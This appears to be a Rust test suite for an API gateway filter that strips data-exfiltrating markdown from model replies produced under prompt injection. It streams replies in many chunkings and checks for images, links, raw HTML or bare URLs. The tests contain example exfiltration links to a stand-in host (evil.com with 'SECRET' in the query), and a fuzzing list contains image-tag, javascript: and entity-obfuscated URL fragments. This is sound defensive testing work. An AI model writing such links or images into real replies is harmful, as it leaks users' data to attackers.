//! The exfiltration corpus: replies an attacker would like the model to
//! write (prompt injection) so that the client's markdown renderer fetches or
//! links an address carrying data. Each is streamed through the gateway's
//! output filter in several chunkings (whole, 1 character, 3 characters,
//! random sizes); the concatenation of what the filter sends, parsed as one
//! document by pulldown-cmark (the gateway's dialect and plain CommonMark),
//! must hold no image, link or reference definition outside the link policy,
//! no raw HTML and no bare URL to another host. Benign replies must come out
//! unchanged in every chunking.

mod corpus;

use baton_api_gateway::checks::{Filtered, OutputFilter, RuleCheck};
use corpus::*;
use std::sync::Arc;

fn stream(chunks: &[String]) -> String {
    let mut f = OutputFilter::new(Arc::new(RuleCheck::default()), Arc::new(policy()), 0);
    let mut out = String::new();
    let mut results: Vec<Filtered> = chunks.iter().map(|c| f.push(c)).collect();
    results.push(f.finish());
    for c in results {
        match c {
            Filtered::Text(t) => out.push_str(&t),
            Filtered::Blocked(r) => panic!("blocked: {r}"),
        }
    }
    out
}

#[test]
fn corpus_is_large_enough() {
    assert!(attacks().len() >= 40, "{} attacks", attacks().len());
    assert!(benign().len() >= 10);
}

#[test]
fn the_attacks_are_attacks() {
    // Unfiltered, every entry has something a renderer would fetch or link
    // (the check below is not vacuous).
    for (name, reply) in attacks() {
        assert!(!violations(&reply).is_empty(), "{name}: the unfiltered reply is harmless, so the entry tests nothing");
    }
}

#[test]
fn no_attack_survives_any_chunking() {
    let mut failures = Vec::new();
    for (name, reply) in attacks() {
        for (how, chunks) in chunkings(&reply) {
            let out = stream(&chunks);
            let bad = violations(&out);
            if !bad.is_empty() {
                failures.push(format!("{name} ({how}): {bad:?}\n  in:  {reply:?}\n  out: {out:?}"));
            }
            if out.contains("SECRET") && !name.starts_with("bare") && !name.contains("autolink") {
                failures.push(format!("{name} ({how}): the secret is still in the text\n  out: {out:?}"));
            }
        }
    }
    assert!(failures.is_empty(), "{} failures:\n{}", failures.len(), failures.join("\n"));
}

#[test]
fn benign_replies_pass_unchanged_in_every_chunking() {
    let mut failures = Vec::new();
    for (name, reply) in benign() {
        for (how, chunks) in chunkings(reply) {
            let out = stream(&chunks);
            if out != reply {
                failures.push(format!("{name} ({how}):\n  in:  {reply:?}\n  out: {out:?}"));
            }
        }
    }
    assert!(failures.is_empty(), "{} failures:\n{}", failures.len(), failures.join("\n"));
}

#[test]
fn footnote_definitions_reach_the_client_as_text() {
    // GFM and CommonMark read `[^1]:` differently; the sanitizer sends it as text.
    for (how, chunks) in chunkings("A claim.[^1]\n\n[^1]: The source.\n") {
        assert_eq!(stream(&chunks), "A claim.[^1]\n\n[^1\\]: The source.\n", "{how}");
    }
}

#[test]
fn refused_links_keep_their_text_and_lose_their_url() {
    for (how, chunks) in chunkings("Read [the guide](https://evil.com/?SECRET) and [docs](https://docs.rs/x) now.") {
        assert_eq!(stream(&chunks), "Read the guide and [docs](https://docs.rs/x) now.", "{how}");
    }
    for (how, chunks) in chunkings("see https://evil.com/?q=1 now") {
        assert_eq!(stream(&chunks), "see `https://evil.com/?q=1` now", "{how}");
    }
}

mod generated {
    //! Replies assembled from the pieces attacks are made of, cut into random
    //! chunks: the same invariant as the corpus, on inputs nobody wrote by hand.
    use super::*;
    use proptest::prelude::*;

    const PIECES: &[&str] = &[
        "![", "[", "]", "(", ")", "https://evil.com/x", "https://docs.rs/y", "www.evil.com", "<img src=", "<", ">", "`", "```\n", "\n",
        "\n\n", " ", "    ", "a", "r", "[r]: ", "]: ", "&#58;", "\\", "!", ":", "//evil.com", "<!--", "-->", "- ", "> ", "|", "\"",
        "](", "[r]", "javascript:", "<https://evil.com/x>", "&#106;", "~~~\n", "\t", "*", "# ", "1. ", "---\n", "[^1]: ", "|---|\n",
        "<div>", "</div>", "https&#58;//evil.com", "[a](https://docs.rs/z)",
    ];

    fn reply() -> impl Strategy<Value = String> {
        prop::collection::vec(prop::sample::select(PIECES), 0..40).prop_map(|p| p.concat())
    }

    proptest! {
        #![proptest_config(ProptestConfig { cases: 1024, ..ProptestConfig::default() })]
        #[test]
        fn generated_replies_are_safe_in_any_chunking(text in reply(), sizes in prop::collection::vec(1usize..6, 1..64)) {
            let chars: Vec<char> = text.chars().collect();
            let mut chunks = Vec::new();
            let (mut i, mut k) = (0, 0);
            while i < chars.len() {
                let n = sizes[k % sizes.len()];
                chunks.push(chars[i..(i + n).min(chars.len())].iter().collect::<String>());
                i += n;
                k += 1;
            }
            // Read as the gateway reads and as plain CommonMark (where a
            // table's rows are one paragraph, so spans and tags may cross
            // rows); the corpus adds GFM with footnotes.
            let out = stream(&chunks);
            let bad = violations(&out);
            prop_assert!(bad.is_empty(), "{:?}\n  in:  {:?}\n  out: {:?}", bad, text, out);
        }
    }
}
